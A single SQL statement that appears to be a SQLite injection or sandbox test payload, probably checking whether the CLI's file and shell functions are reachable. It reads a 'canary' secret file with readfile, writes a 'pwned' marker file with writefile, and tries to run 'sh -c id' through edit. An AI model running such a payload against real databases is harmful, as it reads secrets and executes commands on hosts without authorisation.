select readfile('/srv/canary/secret.txt') as n, writefile('/var/tmp/pwned', 'x') as c union all select edit('x', 'sh -c id'), lsmode(1)
